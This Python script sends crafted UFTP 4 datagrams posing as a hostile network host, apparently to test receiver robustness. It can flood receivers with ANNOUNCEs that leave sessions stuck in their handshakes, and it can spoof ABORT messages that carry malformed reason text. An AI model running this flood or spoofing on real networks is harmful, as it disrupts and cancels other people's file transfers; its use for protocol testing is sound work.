#!/usr/bin/env python3
"""Sends crafted UFTP 4 datagrams, as a hostile host on the network would.

  hostile_sender.py announce --interface ADDR --count N [--first-group G]
                    [--listed UID,...] [--robust R] [--grtt Q]
                    [--private-base 230.6.0.0] [--rate PPS]
  hostile_sender.py abort --interface ADDR --to ADDR --src-id UID --group G
                    --reason-hex HEX

announce:
Each ANNOUNCE gets its own group ID (G, G+1, ...) and its own private group
(the base plus the index), so every one looks like a new session. --listed
names the client UIDs in the closed-group list (empty: open group, which
every receiver takes as addressed to it). --robust and --grtt (the quantized
header byte, 255 = the largest GRTT the wire can carry) default to the
extremes. Nobody answers the REGISTERs these sessions provoke, so each stays
in its handshake until the receiver gives it up.

abort: one ABORT (host 0) for session G, as if from UID, to ADDR:1044 (a
multicast group or a node's address), whose reason is the bytes HEX: text
that is not UTF-8, as a stock peer or a hostile one may send.
"""
import argparse
import ipaddress
import socket
import struct
import time

PUBLIC_GROUP = "230.4.4.1"
PORT = 1044


def announce(seq, src_id, group_id, grtt, robust, private, listed):
    header = struct.pack(">BBHIIBBBB", 0x40, 1, seq & 0xFFFF, src_id, group_id, 0, grtt, 0, 0)
    now = time.time()
    body = struct.pack(">BBBBBBHII", 1, 6, 0, robust, 0, 0, 1300, int(now),
                       int((now % 1) * 1e6))
    body += socket.inet_aton(PUBLIC_GROUP) + socket.inet_aton(private)
    body += b"".join(struct.pack(">I", uid) for uid in listed)
    return header + body


def abort(src_id, group_id, reason):
    header = struct.pack(">BBHIIBBBB", 0x40, 19, 0, src_id, group_id, 0, 0, 0, 0)
    text = reason[:299]
    return header + struct.pack(">BBBBI", 19, 77, 0, 0, 0) + text + bytes(300 - len(text))


def open_socket(interface):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(interface))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    return s


def main():
    p = argparse.ArgumentParser()
    p.add_argument("message", choices=["announce", "abort"])
    p.add_argument("--interface", required=True, help="local IPv4 address to send from")
    p.add_argument("--to", help="abort: destination address")
    p.add_argument("--group", type=lambda s: int(s, 0), help="abort: the session's group ID")
    p.add_argument("--reason-hex", default="", help="abort: the reason's bytes, in hex")
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--first-group", type=lambda s: int(s, 0), default=0x5B000000)
    p.add_argument("--src-id", type=lambda s: int(s, 0), default=0x0BAD0001)
    p.add_argument("--listed", default="")
    p.add_argument("--robust", type=int, default=255)
    p.add_argument("--grtt", type=int, default=255)
    p.add_argument("--private-base", default="230.6.0.0")
    p.add_argument("--rate", type=float, default=0, help="ANNOUNCEs per second (0: as fast as possible)")
    a = p.parse_args()
    if a.message == "abort":
        open_socket(a.interface).sendto(abort(a.src_id, a.group, bytes.fromhex(a.reason_hex)),
                                        (a.to, PORT))
        print(f"hostile_sender: ABORT for group {a.group:#010x} as {a.src_id:#010x} to {a.to}")
        return
    listed = [int(u, 0) for u in a.listed.split(",") if u]
    base = int(ipaddress.IPv4Address(a.private_base))
    s = open_socket(a.interface)
    for i in range(a.count):
        private = str(ipaddress.IPv4Address(base + 1 + (i % 65000)))
        s.sendto(announce(i, a.src_id, a.first_group + i, a.grtt, a.robust, private, listed),
                 (PUBLIC_GROUP, PORT))
        if a.rate > 0:
            time.sleep(1.0 / a.rate)
    print(f"hostile_sender: sent {a.count} ANNOUNCEs")


if __name__ == "__main__":
    main()
